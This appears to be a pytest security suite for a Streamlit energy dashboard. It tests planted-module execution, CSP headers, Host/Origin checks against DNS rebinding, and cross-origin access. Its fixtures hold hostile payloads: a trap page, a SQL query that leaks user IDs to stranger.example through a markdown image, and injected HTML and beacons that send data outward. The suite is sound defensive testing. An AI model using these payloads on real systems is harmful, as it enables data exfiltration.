"""The dashboard's door: what other pages, names and folders try on it, through HTTP and a real browser."""

import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Browser, expect, sync_playwright
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from tests.support.served_dashboard import BROWSER_FLAGS, dashboard_of

PLANTED = ("click", "streamlit", "pandas", "polars", "duckdb", "starlette", "typing_extensions", "app", "lake", "json")
TO_A_STRANGER = ["--host-resolver-rules=MAP *.example 127.0.0.1"]


@pytest.fixture(scope="module")
def foreign_folder(tmp_path_factory) -> Path:
    """A folder with modules that say so when they are run, and with settings that open Streamlit's door."""
    folder = tmp_path_factory.mktemp("foreign")
    for name in PLANTED:
        (folder / f"{name}.py").write_text(f"open({str(folder / 'was-run')!r}, 'a').write({name!r} + ' ')\n")
    (folder / ".streamlit").mkdir()
    (folder / ".streamlit" / "config.toml").write_text(
        "[theme]\nprimaryColor = '#123456'\n[server]\nenableCORS = false\n"
    )
    return folder


@pytest.fixture(scope="module")
def address(filled_folder, foreign_folder) -> Iterator[str]:
    with dashboard_of(str(filled_folder), foreign_folder, names=["energy.example"]) as served_at:
        yield served_at


def test_nothing_of_the_folder_that_it_is_started_in_is_run(address, foreign_folder):
    assert httpx.get(address).is_success
    assert not (foreign_folder / "was-run").exists()


def test_the_folder_would_have_been_run_without_minus_p(foreign_folder, tmp_path):
    """The trap bites: what is planted is found by a Python that looks where it stands."""
    subprocess.run(
        [sys.executable, "-m", "wattlake.app.dashboard"], cwd=foreign_folder, check=False, capture_output=True
    )
    assert (foreign_folder / "was-run").exists()
    (foreign_folder / "was-run").unlink()


@pytest.mark.parametrize("path", ["/", "/sql", "/_stcore/health", "/_stcore/host-config", "/static/nothing.js"])
def test_every_answer_tells_the_browser_to_keep_to_this_origin(address, path):
    answer = httpx.get(address + path)
    policy = dict(rule.split(" ", 1) for rule in answer.headers["content-security-policy"].split("; "))
    assert policy["default-src"] == policy["connect-src"] == policy["frame-ancestors"] == "'self'"
    assert policy["img-src"] == "'self' data: blob:"
    assert "unsafe-inline" not in policy["script-src"]
    assert "http" not in answer.headers["content-security-policy"]
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert answer.headers["cross-origin-resource-policy"] == "same-origin"


@pytest.mark.parametrize(
    ("host", "code"),
    [
        *(
            (host, 200)
            for host in ("127.0.0.1", "localhost", "LOCALHOST:1", "[::1]:8501", "192.0.2.7:80", "energy.example")
        ),
        *((host, 403) for host in ("stranger.example", "127.0.0.1.stranger.example", "localhost.stranger.example")),
        *((host, 403) for host in ("[", "[::1", "", "localhost@stranger.example", "0x7f.1.example:1")),
    ],
)
def test_it_answers_under_its_own_names_only(address, host, code):
    assert httpx.get(f"{address}/_stcore/host-config", headers={"Host": host}).status_code == code


def test_pages_of_other_origins_get_no_answer_and_no_websocket(address):
    port = httpx.URL(address).port
    stream = f"ws://127.0.0.1:{port}/_stcore/stream"
    for stranger in ("http://stranger.example", f"http://localhost:{port}", "http://127.0.0.1:1", "null", ""):
        assert httpx.get(f"{address}/_stcore/host-config", headers={"Origin": stranger}).status_code == 403
        with pytest.raises(InvalidStatus, match="403"):
            connect(stream, additional_headers={"Origin": stranger})
    asking = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13"}
    rebound = {"Host": "stranger.example", "Origin": "http://stranger.example", "Sec-WebSocket-Key": "A" * 22 + "=="}
    assert httpx.get(stream.replace("ws", "http", 1), headers=asking | rebound).status_code == 403
    for own in (address, "https://energy.example"):
        assert httpx.get(f"{address}/_stcore/host-config", headers={"Origin": own}).is_success
        connect(stream, additional_headers={"Origin": own}, subprotocols=["streamlit"]).close()


@dataclass
class Stranger:
    """A web site on another origin: the pages it serves, and what it was told by them."""

    port: int = 0
    pages: dict[str, str] = field(default_factory=dict)
    learnt: list[str] = field(default_factory=list)

    @property
    def address(self) -> str:
        return f"http://stranger.example:{self.port}"


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    site = Stranger()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            page = site.pages.get(self.path)
            if page is None and self.path != "/favicon.ico":
                site.learnt.append(self.path)
            self.send_response(200 if page else 404)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write((page or "").encode())

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    site.port = server.server_address[1]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield site
    server.shutdown()
    server.server_close()


@pytest.fixture
def browser(chromium) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=chromium, args=[*BROWSER_FLAGS, *TO_A_STRANGER])
        yield started
        started.close()


def telling(site: Stranger) -> str:
    """A query that has what members are called fetched as a picture, wherever its text or error is markup."""
    picture = f"![](http://stranger.example:{site.port}/leak?"
    return f"select error('{picture}' || string_agg(distinct user_id, '-') || ')') from warehouse.kpi_member"


def trap(site: Stranger, dashboard: str) -> str:
    """A page that tries all that a page can: frame, link, form, picture, script, fetch, WebSocket, opened window."""
    asking = f"{dashboard}/sql?query={quote(telling(site))}"
    tell = "name => fetch(`/told?${name}`, {mode: 'no-cors'})"
    return f"""<!doctype html><body>
<iframe id=frame hidden src="{asking}" onload="frame.contentDocument && told('frame')"></iframe>
<a id=link href="{asking}">Look at your savings</a>
<form id=form action="{dashboard}/sql"><input name=query value="{telling(site).replace('"', "&quot;")}"></form>
<script>
const told = {tell};
fetch('{dashboard}/_stcore/host-config').then(() => told('fetch'), () => 0);
fetch('{dashboard}/_stcore/health', {{credentials: 'include'}}).then(() => told('health'), () => 0);
const socket = new WebSocket('{dashboard.replace("http", "ws")}/_stcore/stream', ['streamlit']);
socket.onopen = () => told('socket');
const script = document.createElement('script');
script.src = '{dashboard}/_stcore/host-config';
script.onload = () => told('script');
document.body.append(script);
addEventListener('message', event => told(`message-${{JSON.stringify(event.data)}}`));
</script>"""


def test_a_page_elsewhere_learns_nothing_by_frame_script_and_socket(address, browser, stranger):
    stranger.pages["/"] = trap(stranger, address)
    page = browser.new_page()
    page.goto(f"{stranger.address}/")
    page.wait_for_timeout(4_000)
    assert "<div" not in page.frames[1].content() or page.frames[1].url.startswith("chrome-error:")
    assert stranger.learnt == []


@pytest.mark.parametrize("way", ["link", "form"])
def test_a_query_that_a_page_elsewhere_puts_into_the_address_is_shown_and_not_run(address, browser, stranger, way):
    stranger.pages["/"] = trap(stranger, address)
    page = browser.new_page()
    page.goto(f"{stranger.address}/")
    page.evaluate(
        "document.getElementById('link').click()" if way == "link" else "document.getElementById('form').submit()"
    )
    expect(page.get_by_role("textbox", name="Query")).to_have_value(telling(stranger), timeout=60_000)
    expect(page.locator("[data-testid=stStatusWidget]")).to_have_count(0, timeout=60_000)
    page.wait_for_timeout(3_000)
    assert page.get_by_text("Asking").count() == 0
    assert "U000001" not in page.locator("[data-testid=stMain]").inner_text()
    page.get_by_role("button", name="Ask").click()
    expect(page.get_by_text(f"stranger.example:{stranger.port}/leak?").last).to_be_visible(timeout=60_000)
    assert page.locator("img[src*='stranger'], a[href*='stranger']").count() == 0
    page.wait_for_timeout(1_000)
    assert stranger.learnt == []


def test_a_name_that_is_pointed_at_this_machine_opens_nothing(address, browser):
    answer = browser.new_page().goto(f"http://rebound.example:{httpx.URL(address).port}/")
    assert answer.status == 403


def test_even_markup_and_script_on_a_page_of_ours_send_nothing_away(address, browser, stranger):
    """The second wall: what the Content-Security-Policy holds, should text become markup one day."""
    page = browser.new_page()
    page.goto(f"{address}/lineage")
    expect(page.locator("[data-testid=stGraphVizChart] svg")).to_be_visible(timeout=60_000)
    page.evaluate(
        """away => {
            document.body.insertAdjacentHTML('beforeend', `<img src="${away}/img"><iframe src="${away}/frame"></iframe>
                <link rel=stylesheet href="${away}/style"><b style="background: url(${away}/css)">x</b>
                <video src="${away}/video"></video><object data="${away}/object"></object>
                <form action="${away}/form"><button id=away>x</button></form>
                <img src=x onerror="fetch('${away}/onerror')">`);
            const script = document.createElement('script');
            script.src = `${away}/script`;
            document.body.append(script);
            fetch(`${away}/fetch`, {mode: 'no-cors'}).catch(() => 0);
            navigator.sendBeacon(`${away}/beacon`, 'x');
            try { new WebSocket(away.replace('http', 'ws') + '/socket') } catch {}
            document.getElementById('away').click();
        }""",
        stranger.address,
    )
    page.wait_for_timeout(2_000)
    assert stranger.learnt == []
